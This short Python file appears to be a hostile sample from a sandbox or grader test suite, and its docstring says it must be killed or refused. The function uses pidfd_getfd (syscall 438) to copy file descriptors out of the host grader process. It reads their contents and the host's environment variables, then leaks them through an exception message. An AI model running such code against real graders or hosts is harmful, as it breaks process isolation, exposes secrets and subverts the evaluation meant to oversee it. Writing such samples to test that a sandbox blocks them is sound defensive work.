"""Takes a descriptor out of the grader with pidfd_getfd; must be killed or refused.

harm: read
stopped by: kernel
"""

import os
import sys

ctypes = sys.modules["ctypes"]


def f(x):
    libc = ctypes.CDLL(None)
    process = os.pidfd_open(int("@HOST_PID@"))
    taken = []
    for number in range(64):
        descriptor = libc.syscall(438, process, number, 0)
        try:
            taken.append(os.pread(descriptor, 100, 0).decode("latin-1"))
        except OSError:
            continue
    raise ValueError(" ".join(taken) + open("/proc/@HOST_PID@/environ").read())
